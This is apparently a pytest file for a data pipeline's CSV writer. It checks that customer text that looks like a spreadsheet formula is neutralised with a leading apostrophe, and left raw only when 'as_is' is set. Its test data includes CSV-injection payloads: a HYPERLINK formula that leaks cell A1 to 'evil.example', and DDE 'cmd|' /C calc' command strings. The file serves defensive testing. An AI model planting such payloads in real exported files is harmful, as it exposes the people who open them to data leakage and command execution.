"""Exported rows as a spreadsheet and a program read them."""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING

import pandas as pd
import pytest

from elmer_pipelines.console.files import write

if TYPE_CHECKING:
    from pathlib import Path

RUNS = [
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "=1+1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "  =A1",
    "\t=A1",
    "＝1+1",
]
SAID = [
    "+1 for an offline mode (please!)",
    "@Anna it fails again",
    "- the export fails",
    "-10 points",
    "a = b",
    "5 | 6",
]


def _written(path: Path, *, as_is: bool = False) -> list[str]:
    frame = pd.DataFrame({"id": range(len(RUNS + SAID)), "verbatim": RUNS + SAID, "similarity": -0.5})
    write(frame, "csv", path / "x.csv", as_is=as_is)
    with (path / "x.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["similarity"] for row in rows} == {"-0.5"}
    return [row["verbatim"] for row in rows]


def test_what_a_customer_wrote_is_never_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _written(tmp_path) == [*(f"'{one}" for one in RUNS), *SAID]
    assert f"{len(RUNS)} cells" in capsys.readouterr().err


def test_as_is_means_as_is(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _written(tmp_path, as_is=True) == [*RUNS, *SAID]
    assert "apostrophe" not in capsys.readouterr().err
